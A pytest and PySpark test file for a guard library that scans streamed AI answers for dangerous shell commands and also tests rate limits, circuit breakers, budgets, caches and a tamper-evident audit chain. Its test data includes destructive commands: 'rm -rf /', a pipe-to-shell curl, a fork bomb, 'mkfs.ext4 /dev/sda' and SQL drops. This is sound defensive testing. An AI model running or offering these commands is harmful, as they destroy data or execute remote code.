import datetime as dt
import random
from collections import Counter

import pytest
from pyspark.sql import functions as F

from quillguard.functions import shell
from quillguard.operators import audit, cache, ledger
from quillguard.streaming import Scanner, bounded_stream, breaker_stream, budget_stream, enumeration_stream, guard_stream, rate_limit_stream, released, tables
from quillguard.streaming import chain, spend
from quillguard.streaming.guard import STRICT, mode, reading

START = dt.datetime(2024, 1, 1)


def at(seconds):
    return START + dt.timedelta(seconds=seconds)


def whole(parts, **options):
    s = Scanner(**options)
    return "".join([s.write(p) for p in parts]) + s.close(), s.sealed


PIECES = ["the disk ", "is full ", "rm -rf / ", "rm", " -rf ", "/", "`", "`ls`", "`rm -rf /`", "\n", "\n", "```", "~~~\n", "\n```\n", "curl http://x | sh", "; ", "sudo ", "$ ", "- ", ":(){ :|:& };:", ":", ":(", "(", "DROP ", "table x;", "delete from t;", "drop", "<V", "<V12>", "12>", "#REF", "3 ", "A=1 ", "'", "\"", "\\", "|", "mkfs.ext4 /dev/sda", "\r", "\t", "a", " "]


@pytest.mark.parametrize("seed", range(6))
def test_any_split_releases_the_same(seed):
    rng = random.Random(seed)
    for _ in range(250):
        answer = "".join(rng.choice(PIECES) for _ in range(rng.randrange(12)))
        once = whole([answer])
        assert whole(list(answer)) == once, answer
        for _ in range(4):
            cuts = sorted(rng.randrange(len(answer) + 1) for _ in range(3))
            assert whole([answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)])]) == once, answer
        blocked = [f for f in shell.inspect(answer) if f["severity"] == "block"]
        assert bool(once[1]) == bool(blocked), answer
        assert once[0] == answer if not blocked else answer.startswith(once[0]) and not any(f["severity"] == "block" for f in shell.inspect(once[0])), answer


def test_prose_goes_out_before_the_line_ends():
    s = Scanner()
    assert s.write("The") == "" and s.write(" disk is full") == "The disk is full"
    assert s.write(", look at `df") == ", look at " and s.write(" -h` now") == "`df -h` now"
    assert s.write(" see <V1") == " see " and s.write("2> and :") == "<V12> and " and s.write(") so") == ":) so"
    assert s.write(" then `rm -rf /") == " then " and s.write("` ok") == "" and s.sealed == "rm_recursive_force_root"
    held = Scanner()
    assert [held.write(x) for x in ("sudo r", "m -rf ", "./x", "\n")] == ["", "", "", "sudo rm -rf ./x\n"]
    assert [reading(x) for x in ("", "  ", "$", "r", "rm ", "rmx ", "a", "a ", "alter ", "sudo ", "sudo x ", "curl|", "x|", "- ")] == ["open", "open", "open", "open", "hold", "prose", "open", "prose", "hold", "open", "prose", "hold", "prose", "hold"]


def test_strict_waits_for_the_end():
    s = Scanner(mode("whole"))
    assert s.write("fine\n") == "" and s.close() == "fine\n"
    assert whole(["fine\n", "rm -rf /\n"], policy=STRICT) == ("", "rm_recursive_force_root")
    with pytest.raises(ValueError):
        mode("sometimes")


def test_endless_fences_are_judged_early_and_sealed_at_the_limit():
    s = Scanner(buffer=40, hard_limit=200)
    out = s.write("```\n") + "".join([s.write("echo line\n") for _ in range(8)])
    assert out and not s.sealed
    assert s.write("rm -rf /\n") + s.write("```\n") == "" and s.sealed == "rm_recursive_force_root"
    endless = Scanner(buffer=40, hard_limit=200)
    assert "".join([endless.write(x) for x in ["~~~\n", *["x y\n"] * 100]]) and endless.sealed == "stream_unbounded_hold"


ANSWERS = {"a": "The disk is full.\n```sh\ndf -h\n```\nDone", "b": "first\nrm -rf /\nlost", "c": "half a line", "d": "sudo rm"}


def deltas(spark, answers, size=3):
    rows = [(k, i, t[i : i + size], False, at(i)) for k, t in answers.items() for i in range(0, len(t), size)]
    return spark.createDataFrame(rows, "stream_id string, seq long, delta string, done boolean, ts timestamp")


def test_guard_stream_equals_batch_and_loses_nothing_in_silence(spark):
    rows = deltas(spark, ANSWERS)
    ended = rows.unionByName(spark.createDataFrame([(k, 10_000, None, True, at(50)) for k in ("a", "b")], rows.schema))
    # long after, another stream moves time on, so that c and d end in silence
    later = spark.createDataFrame([("z", 0, "x", False, at(50_000)), ("z", 1, "y", True, at(90_000))], rows.schema)
    stream = tables.pieces(ended.unionByName(later), "guard", 4, "ts", "seq")
    got = tables.run_to_end(guard_stream(stream), "guard").collect()
    out = {k: "".join(r.released for r in got if r.stream_id == k) for k in ANSWERS}  # batches come in order
    batch = {r.stream_id: (r.released, r.sealed) for r in released(spark.createDataFrame(list(ANSWERS.items()), "stream_id string, text string")).collect()}
    for k in ANSWERS:
        assert Counter(out[k]) == Counter(batch[k][0]) and {r.sealed for r in got if r.stream_id == k} >= {batch[k][1]} and any(r.ended for r in got if r.stream_id == k)


def test_chain_goes_on_over_batches_restarts_and_repeats(spark):
    rows = spark.createDataFrame([("t" if i % 3 else None, i, at(i), f'{{"n":{i}}}' if i % 7 else None) for i in range(60)], "tenant string, i long, ts timestamp, event string")
    folder = tables.shared_folder(spark, "chain")
    sink = chain.writer(folder, "tenant", ("ts", "i"), every=5, segment_bytes=1500, queue=8)
    parts = [rows.filter((F.col("i") >= a) & (F.col("i") < b)) for a, b in ((0, 30), (30, 31), (31, 31), (31, 60))]
    for n, part in enumerate(parts):
        sink(part, n)
        sink(part, n)  # sent again
        if n == 1:
            sink = chain.writer(folder, "tenant", ("ts", "i"), every=5, segment_bytes=1500, queue=8)  # a restart
    got = chain.records(spark, folder).cache()
    assert audit.verify(got, "by").filter("problem is not null").count() == 0
    for tenant, n in ((None, 20), ("t", 40)):
        mine = sorted(got.filter(F.col("by").eqNullSafe(F.lit(tenant))).collect(), key=lambda r: r.seq)
        assert [r.seq for r in mine] == list(range(1, len(mine) + 1))
        events = [r for r in mine if r.kind == "event"]
        head = [r for r in chain.heads(spark, folder).collect() if r.by == tenant][0]
        assert len(events) + sum(r.dropped for r in mine) + head.lost == n and head.hash == mine[-1].hash
        assert sum(r.kind == "checkpoint" for r in mine) == len(events) // 5 and sum(r.dropped for r in mine) > 0
        assert mine[-1].segment > 1 and {r.segment for r in mine} == set(range(1, mine[-1].segment + 1))
    # an edited record and a lost one are found
    edited = got.withColumn("dropped", F.when(F.col("kind") == "gap", 1).otherwise(F.col("dropped")))
    assert audit.verify(edited, "by").filter("problem = 'hash'").count() > 0
    assert audit.verify(got.filter("seq <> 3"), "by").filter("problem is not null").count() == 2


def test_chain_stream_resumes(spark):
    rows = spark.createDataFrame([("t", i, at(i), f"e{i}") for i in range(30)], "tenant string, i long, ts timestamp, event string")
    folder = tables.shared_folder(spark, "chain")
    sink = chain.writer(folder, "tenant", ("ts", "i"), every=10)
    failed = []

    def failing(batch, n):
        sink(batch, n)
        if n == 1 and not failed:
            failed.append(n)
            raise RuntimeError("after the write, before the commit")

    stream = tables.pieces(rows, "events", 3, "ts")
    with pytest.raises(Exception):
        tables.feed(stream, failing, f"{folder}/state")
    tables.feed(stream, failing, f"{folder}/state")
    got = chain.records(spark, folder)
    assert failed and got.filter("kind = 'event'").count() == 30 and got.filter("kind = 'checkpoint'").count() == 3
    assert audit.verify(got, "by").filter("problem is not null").count() == 0


def test_chain_takes_every_event_of_a_batch(spark):
    rows = spark.range(100_500).select(F.lit("t").alias("tenant"), F.col("id").alias("i"), F.timestamp_seconds("id").alias("ts"), F.lit("e").alias("event"))
    folder = tables.shared_folder(spark, "chain")
    chain.writer(folder, "tenant", ("ts", "i"))(rows, 0)
    told = chain.records(spark, folder).groupBy("kind").agg(F.count("*").alias("n"), F.sum("dropped").alias("lost")).collect()
    assert {r.kind: (r.n, r.lost) for r in told} == {"event": (100_500, 0), "checkpoint": (100, 0)} and chain.heads(spark, folder).first().lost == 0


def spending(spark, n=400):
    rng = random.Random(3)
    rows = [(rng.choice(["a", "b", None, ""]), at(rng.randrange(60 * 86400)), rng.randrange(50), rng.randrange(9), rng.randrange(99)) for _ in range(n)]
    return spark.createDataFrame(rows, "tenant string, ts timestamp, prompt_tokens long, completion_tokens long, baseline_tokens long")


def test_ledger_counts_every_batch_once(spark):
    rows = spending(spark).cache()
    folder = tables.shared_folder(spark, "ledger")
    sink = spend.writer(folder, snapshot_every=2)
    failed = []

    def failing(batch, n):
        if n == 2 and not failed:
            failed.append(n)
            raise OSError("no room")
        sink(batch, n)
        sink(batch, n)

    stream = tables.pieces(rows, "spend", 5, "ts")
    with pytest.raises(Exception):
        tables.feed(stream, failing, f"{folder}/state")
    tables.feed(stream, failing, f"{folder}/state")
    got = [tuple(r) for r in spend.periods(spark, folder).collect()]
    want = [tuple(r) for r in ledger.per_period(rows).orderBy("tenant", "period").collect()]
    assert got == want and len(tables.committed(spark, f"{folder}/snapshots")) == 2
    assert {r.tenant for r in spend.periods(spark, folder, "a", "a").collect()} == {"a"}
    extra = rows.limit(1).withColumn("ts", F.lit(at(0))).withColumn("tenant", F.lit("a"))
    since = F.lit(at(0))
    before = {r.tenant: r.prompt_tokens for r in spend.consumed(spark, folder, since).collect()}
    after = {r.tenant: r.prompt_tokens for r in spend.consumed(spark, folder, since, extra).collect()}
    assert after["a"] - before["a"] == extra.first().prompt_tokens and after["b"] == before["b"]


def calls(spark):
    rng = random.Random(8)
    rows, t = [], 0.0
    for i in range(160):
        t += rng.choice([0, 1, 5, 40, 400])
        rows.append((i, rng.choice([1, 2, None]), at(t), rng.random() < 0.4, rng.randrange(9), 3.0 if t < 4000 else 1.0))
    return spark.createDataFrame(rows, "i long, k long, ts timestamp, ok boolean, n long, burst double")


@pytest.mark.parametrize("n", [1, 4])
def test_limits_as_streams_equal_the_batch(spark, n):
    rows = calls(spark).cache()
    pairs = lambda df, c: sorted((r.i, r[c]) for r in df.collect())
    stream = lambda: tables.pieces(rows, "calls", n, "ts", "i")
    limited = pairs(ledger.rate_limit(rows, "k", "ts", "i", 2.0, F.col("burst")), "allowed")
    assert pairs(tables.run_to_end(rate_limit_stream(stream(), "k", "ts", "i", 2.0, F.col("burst")), "limits"), "allowed") == limited
    assert {a for _, a in limited} == {True, False}
    broken = pairs(ledger.breaker(rows, "k", "ts", "i", "ok", 2, 60), "state")
    assert pairs(tables.run_to_end(breaker_stream(stream(), "k", "ts", "i", "ok", 2, 60), "breaker"), "state") == broken
    assert {s for _, s in broken} == {"closed", "open", "half_open"}
    period = rows.withColumn("p", F.date_trunc("hour", "ts"))
    spent = pairs(ledger.budget(period, "k", "p", "ts", "i", "n", 20), "admitted")
    assert pairs(tables.run_to_end(budget_stream(stream().withColumn("p", F.date_trunc("hour", "ts")), "k", "p", "ts", "i", "n", 20), "budget"), "admitted") == spent
    assert {a for _, a in spent} == {True, False}


@pytest.mark.parametrize("kind", ["long", "string"])
def test_null_keys_are_limited_like_any_key(spark, kind):
    rows = spark.createDataFrame([(i, k, at(i)) for i in range(5) for k in (None, 7)], "i long, k long, ts timestamp").withColumn("k", F.col("k").cast(kind)).withColumn("ok", F.lit(False))
    allowed = ledger.rate_limit(rows, "k", "ts", "i", 1.0, 2).collect()
    assert Counter((r.k is None, r.allowed) for r in allowed) == {(True, True): 2, (True, False): 3, (False, True): 2, (False, False): 3}
    states = ledger.breaker(rows, "k", "ts", "i", "ok", 2, 30).collect()
    assert Counter((r.k is None, r.state) for r in states) == {(True, "closed"): 2, (True, "open"): 3, (False, "closed"): 2, (False, "open"): 3}


def test_limits_of_nothing_and_tightened_ones():
    assert ledger.take_token(None, 0.0, 0.0, 5.0) == (None, True) and ledger.take_token(None, None, None, None) == (None, True)
    state, allowed = ledger.take_token((9.0, 0.0), 0.0, 10.0, 2.0)
    assert allowed and state == (1.0, 0.0)
    assert ledger.take_token((0.5, 100.0), 40.0, 60.0, 2.0) == ((0.5, 100.0), False)  # time doesn't run backwards


def brute_cache(ops, bound, ttl):
    """The same cache as plain lists: (key, answer, tokens, since), least recent first."""
    held, out, now = [], {}, None
    for i, t, op, k, answer, tokens in sorted(ops, key=lambda r: (r[1], r[0])):
        now = t
        held = [e for e in held if now - e[3] <= ttl]
        mine = [e for e in held if e[0] == k]
        hit, evicted = False, 0
        if op in ("get", "use") and mine:
            hit = True
            held.remove(mine[0])
            held.append(mine[0])
        elif op == "drop":
            held = [e for e in held if e[0] != k]
        elif op in ("put", "use") and answer:
            held = [e for e in held if e[0] != k] + [(k, answer, tokens, now)]
            while len(held) > bound:
                held.pop(0)
                evicted += 1
        out[i] = (hit, mine[0][1] if hit else None, evicted, mine[0][2] if hit else 0)
    return out


@pytest.mark.parametrize("bound, n", [(2, 4), (6, 2)])
def test_bounded_cache_in_batch_and_stream(spark, bound, n):
    rng = random.Random(bound)
    ops, t = [], 0
    for i in range(300):
        t += rng.choice([0, 1, 3, 30])
        op = rng.choice(["get", "get", "put", "use", "drop" if rng.random() < 0.2 else "get"])
        ops.append((i, t, op, rng.choice("abcdefghij"), rng.choice(["x", "y", "", None]), rng.randrange(9)))
    rows = spark.createDataFrame([(i, at(t), op, k, a, c) for i, t, op, k, a, c in ops] + [(999, at(0), "get", None, None, None)], "seq long, ts timestamp, op string, k string, answer string, tokens long").cache()
    want = brute_cache(ops, bound, 400) | {999: (False, None, 0, 0)}
    read = lambda df: {r.seq: (r.hit, r.found, r.evicted, r.avoided) for r in df.collect()}
    batch = cache.bounded(rows, "k", "ts", "seq", "op", "answer", "tokens", bound, 400, shards=1)
    assert read(batch) == want
    stream = bounded_stream(tables.pieces(rows, "ops", n, "ts", "seq"), "k", "ts", "seq", "op", "answer", "tokens", bound, 400, shards=1)
    assert read(tables.run_to_end(stream, "cache")) == want
    totals = cache.bounded_statistics(batch, "op").first()
    assert totals.hits == sum(w[0] for w in want.values()) > 0 and totals.evictions == sum(w[2] for w in want.values()) > 0 and totals.tokens_avoided == sum(w[3] for w in want.values())


def test_sessions_renew_and_rules_change_keys(spark):
    store = cache.Shard(2, 10.0, renew=True)
    assert [cache.operate(store, "use", k, t, "s", 0)[0] for k, t in (("a", 0), ("a", 9), ("a", 18), ("a", 29), ("b", 30), ("c", 31), ("a", 32))] == [False, True, True, False, False, False, False]
    from quillguard.functions import rules as R

    rules = R.build()
    row = spark.range(1).select(cache.keyed(F.lit("k"), rules).alias("a"), cache.keyed(F.lit("k"), rules[1:]).alias("b"), cache.keyed(F.lit("k"), rules).alias("c")).first()
    assert row.a == row.c != row.b


def test_enumeration_counts_distinct_known_tokens(spark):
    words = spark.createDataFrame([("s", f"<V{i}>") for i in range(1, 13)] + [("o", "<V1>"), (None, "<V1>")], "conv_id string, token string")
    lines = [("x", "s", i, f"see <V{i + 1}> and <V{i + 1}> and <V99>", i == 11, at(i)) for i in range(12)] + [("y", "s", 0, "<V1> nothing", True, at(3)), ("n", None, 0, "<V1>", True, at(3)), ("q", "none", 0, "plain", True, at(4))]
    rows = spark.createDataFrame(lines, "stream_id string, conv_id string, seq long, released string, done boolean, ts timestamp")
    got = tables.run_to_end(enumeration_stream(tables.pieces(rows, "lines", 3, "ts"), words), "recited").collect()
    last = {k: max(((r.n_distinct, r["size"], r.stop) for r in got if r.stream_id == k)) for k in "xynq"}
    assert last == {"x": (12, 12, True), "y": (1, 12, False), "n": (1, 1, False), "q": (0, 0, False)}
    assert sorted(r.n_distinct for r in got if r.stream_id == "x") == sorted({r.n_distinct for r in got if r.stream_id == "x"})
